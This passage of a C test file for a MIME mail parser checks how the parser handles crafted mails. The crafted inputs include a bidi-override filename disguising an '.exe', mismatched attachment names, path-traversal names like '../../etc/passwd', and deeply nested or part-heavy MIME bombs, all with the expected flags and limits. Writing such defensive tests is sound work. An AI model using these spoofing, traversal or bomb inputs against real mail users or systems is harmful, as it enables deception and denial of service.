         "1 message message/rfc822\n1.1 attachment application/pkcs7-mime smime.p7m\n", "> Subject: in\n", 0, 0},
        {"zip-with-password",
         MIXED "--X\nContent-Type: application/zip\nContent-Transfer-Encoding: base64\n\n"
               "UEsDBBQAAQAIAAAAIQAAAAAAAAAAAAAAAAABAAAAYQAAAAAAAAA=\n--X--\n",
         "1 attachment application/zip\n", "", 0, MG_PART_ENCRYPTED},
};

static const Row names[] = {
        {"C1-bidi",
         MIXED "--X\nContent-Type: application/octet-stream; name=\"見積\342\200\256fdp.exe\"\n\nMZ\n--X--\n",
         "1 attachment application/octet-stream 見積fdp.exe\n", "", 0, MG_PART_NAME_CLEANED},
        {"C2-differ",
         MIXED
         "--X\nContent-Type: application/x; name=a.txt\nContent-Disposition: attachment; filename=b.exe\n\nMZ\n--X--\n",
         "1 attachment application/x b.exe\n", "", 0, MG_PART_NAMES_DIFFER},
        {"C2-rfc2231",
         MIXED "--X\nContent-Type: application/x\nContent-Disposition: attachment; filename=b.exe; "
               "filename*=utf-8'en-US'c.scr\n\nMZ\n--X--\n",
         NULL, "", MG_MARK_AMBIGUOUS, MG_PART_NAMES_DIFFER},
        {"C3-path",
         MIXED "--X\nContent-Type: application/x; name=\"../../etc/passwd\"\n\nx\n--X\nContent-Type: application/x; "
               "name=\"C:\\\\x\\\\con. \"\n\nx\n--X--\n",
         "1 attachment application/x passwd\n2 attachment application/x con\n", "", 0, MG_PART_NAME_CLEANED},
        {"C2-encoded-word",
         MIXED "--X\nContent-Type: application/x; name=\"=?iso-2022-jp?B?GyRCOCtAURsoQi5wZGY=?=\"\n\nx\n--X--\n",
         "1 attachment application/x 見積.pdf\n", "", 0, 0},
};

static void check_row(const Row *row) {
        g_test_message("%s", row->id);
        g_autoptr(MgReading) reading = read_mail(row->mail);
        g_autofree char *parts = parts_of(reading);
        g_autofree char *body = body_of(reading);
        g_assert_cmpint(reading->failure, ==, MG_FAILURE_NONE);
        if (row->parts != NULL)
                g_assert_cmpstr(parts, ==, row->parts);
        if (row->body != NULL)
                g_assert_cmpstr(body, ==, row->body);
        /* Whether an ambiguous part makes the mail ambiguous is said by the rows that have no such flag. */
        guint32 mask = (row->flags & MG_PART_AMBIGUOUS) != 0 ? MARKS & ~MG_MARK_AMBIGUOUS : MARKS;
        g_assert_cmphex(reading->marks & mask, ==, row->marks & mask);
        g_assert_cmphex(flags_of(reading) & row->flags, ==, row->flags);
}

static void check_rows(const Row *rows, gsize n) {
        for (gsize i = 0; i < n; i++)
                check_row(&rows[i]);
}

static void test_structure(void) {
        check_rows(structure, G_N_ELEMENTS(structure));
}

static void test_disagreement(void) {
        check_rows(disagreement, G_N_ELEMENTS(disagreement));
}

static void test_hidden(void) {
        check_rows(hidden, G_N_ELEMENTS(hidden));
}

static void test_encoded(void) {
        check_rows(encoded, G_N_ELEMENTS(encoded));
}

static void test_messages(void) {
        check_rows(messages, G_N_ELEMENTS(messages));
}

static void test_names(void) {
        check_rows(names, G_N_ELEMENTS(names));
}

/* Nothing of a mail with two structures is body, and what either reader sees is listed. */
static void test_union(void) {
        for (gsize i = 0; i < G_N_ELEMENTS(disagreement); i++) {
                if (strcmp(disagreement[i].id, "B1") != 0 && strcmp(disagreement[i].id, "B2") != 0)
                        continue;
                g_autoptr(MgReading) reading = read_mail(disagreement[i].mail);
                g_assert_cmpuint(reading->parts->len, ==, 3);
                for (guint k = 0; k < reading->parts->len; k++)
                        g_assert_cmpint(((MgFacts *)reading->parts->pdata[k])->kind, ==, MG_PART_ATTACHMENT);
        }
}

static void test_facts(void) {
        g_autoptr(MgReading) reading = read_mail(
                MIXED "--X\n\nhi\n--X\nContent-Type: application/pdf\nContent-Transfer-Encoding: base64\n\n" ZIP_BASE64
                      "--X--\n");
        const MgFacts *facts = reading->parts->pdata[1];
        gsize n;
        g_autofree guchar *zip = g_base64_decode(ZIP_BASE64, &n);
        g_autofree char *want = g_compute_checksum_for_data(G_CHECKSUM_SHA256, zip, n);
        g_autofree char *hex = mg_text_hex(facts->sha256, 32);
        g_assert_cmpstr(facts->claimed, ==, "application/pdf");
        g_assert_cmpstr(facts->found, ==, "application/zip");
        g_assert_cmpuint(facts->size, ==, n);
        g_assert_cmpstr(hex, ==, want);
        g_assert_cmpstr(reading->body_path, ==, "1");
        g_assert_cmpstr(reading->body_type, ==, "text/plain");
}

/* B9: parts are counted before any is made; B8, B13: nesting. */
static void test_bombs(void) {
        g_autoptr(GString) parts = g_string_new(MIXED);
        for (guint i = 0; i < 5000; i++)
                g_string_append(parts, "--X\n\n");
        g_autoptr(MgReading) many = read_mail(parts->str);
        g_assert_cmpstr(many->failure_limit, ==, "parts");
        g_assert_cmpuint(many->failure_value, >=, 5000);
        g_autoptr(GString) deep = g_string_new(HEAD);
        for (guint i = 0; i < 3000; i++)
                g_string_append_printf(deep, "Content-Type: multipart/mixed; boundary=b%u\n\n--b%u\n", i, i);
        g_autoptr(MgReading) multipart = read_mail(deep->str);
        g_assert_cmpstr(multipart->failure_limit, ==, "nesting");
        g_autoptr(GString) mails = g_string_new(HEAD);
        for (guint i = 0; i < 3000; i++)
                g_string_append(mails, "Content-Type: message/rfc822\n\n");
        g_autoptr(MgReading) nested = read_mail(mails->str);
        g_assert_cmpstr(nested->failure_limit, ==, "nesting");
        g_assert_cmpuint(nested->failure_bound, ==, 20);
}

/* At the bound it still works, and quotes are as deep as the messages. */
static void test_nesting_at_bound(void) {
        g_autoptr(GString) mail = g_string_new(HEAD);
        for (guint i = 0; i < 20; i++)
                g_string_append(mail, "Content-Type: message/rfc822\n\n");
        g_string_append(mail, "Subject: deepest\n\ntext\n");
        g_autoptr(MgReading) reading = read_mail(mail->str);
        g_assert_cmpint(reading->failure, ==, MG_FAILURE_NONE);
        g_autofree char *body = body_of(reading);
        g_assert_nonnull(strstr(body, "> > > > > > > > > > > > > > > > > > > > text\n"));
}

/* That one bound and no other was reached, with at least this value. */
static void assert_reached(const MgReading *reading, const char *limit, guint64 least, guint64 bound) {
        g_assert_cmpuint(reading->reached->len, ==, 1);
        const MgReached *reached = &g_array_index(reading->reached, MgReached, 0);
        g_assert_cmpstr(reached->limit, ==, limit);
        g_assert_cmpuint(reached->value, >=, least);
        g_assert_cmpuint(reached->bound, ==, bound);
}

static void test_cut(void) {
        MgLimits limits = mg_limits_default;
        limits.body = 100;
        g_autoptr(GString) mail = g_string_new("Content-Type: text/plain; charset=utf-8\r\n\r\n");
        for (guint i = 0; i < 100; i++)
                g_string_append(mail, "日本");
        for (gsize trim = 0; trim < 4; trim++) {
                g_string_append(mail, "x");
                g_autoptr(MgReading) reading = read_octets(mail->str, mail->len, &limits);
                gsize n;
                const char *body = g_bytes_get_data(reading->body, &n);
                g_assert_cmpuint(n, ==, 99);
                g_assert_true(g_utf8_validate(body, n, NULL));
                g_assert_true(reading->marks & MG_MARK_BODY_CUT);
                assert_reached(reading, "body", 101, 100);
        }
}

/* Whichever bound cut it, both numbers are said. */
static void test_cut_html(void) {
        static const struct {
                const char *limit;
                guint64 bytes, nodes, body, value;
        } rows[] = {{"html_bytes", 100, 1000, 1000, 6000},
                    {"html_nodes", 10000, 5, 1000, 5},
                    {"body", 10000, 10000, 64, 64}};
        g_autoptr(GString) mail = g_string_new("Content-Type: text/html; charset=utf-8\r\n\r\n");
        for (guint i = 0; i < 600; i++)
                g_string_append(mail, "<p>abcdefg");
        for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
                MgLimits limits = mg_limits_default;
                limits.html_bytes = rows[i].bytes;
                limits.html_nodes = rows[i].nodes;
                limits.body = rows[i].body;
                g_autoptr(MgReading) reading = read_octets(mail->str, mail->len, &limits);
                g_assert_true(reading->marks & MG_MARK_BODY_CUT);
                assert_reached(reading, rows[i].limit, rows[i].value,
                               ((const guint64[]){rows[i].bytes, rows[i].nodes, rows[i].body})[i]);
        }
}

static void test_same_again(void) {
        g_autoptr(MgReading) one = read_mail(structure[8].mail);
        g_autoptr(MgReading) two = read_mail(structure[8].mail);
        g_auto(MgWriter) first = {0}, second = {0};
        mg_writer_init(&first);
        mg_writer_init(&second);
        mg_reading_put(&first, one);
        mg_reading_put(&second, two);
        g_assert_cmpmem(first.bytes->data, first.bytes->len, second.bytes->data, second.bytes->len);
}

/* Every beginning of a mail is a mail. */
static void test_cut_anywhere(void) {
        const char *mail = messages[1].mail;
        for (gsize n = 0; n <= strlen(mail); n++) {
                g_autoptr(MgReading) reading = read_octets(mail, n, &mg_limits_default);
                g_assert_cmpint(reading->failure, ==, MG_FAILURE_NONE);
        }
}

int main(int argc, char **argv) {
        g_test_init(&argc, &argv, NULL);
        warm();
        g_test_add_func("/walk/structure", test_structure);
        g_test_add_func("/walk/disagreement", test_disagreement);
        g_test_add_func("/walk/messages", test_messages);
        g_test_add_func("/walk/hidden", test_hidden);
        g_test_add_func("/walk/encoded", test_encoded);
        g_test_add_func("/walk/names", test_names);
        g_test_add_func("/walk/B1-B2-union", test_union);
        g_test_add_func("/walk/facts", test_facts);
        g_test_add_func("/walk/B8-B9-bombs", test_bombs);
        g_test_add_func("/walk/B8-nesting-at-bound", test_nesting_at_bound);
        g_test_add_func("/walk/D13-cut", test_cut);
        g_test_add_func("/walk/D13-cut-html", test_cut_html);
        g_test_add_func("/walk/same-again", test_same_again);
        g_test_add_func("/walk/cut-anywhere", test_cut_anywhere);
        return g_test_run();
}
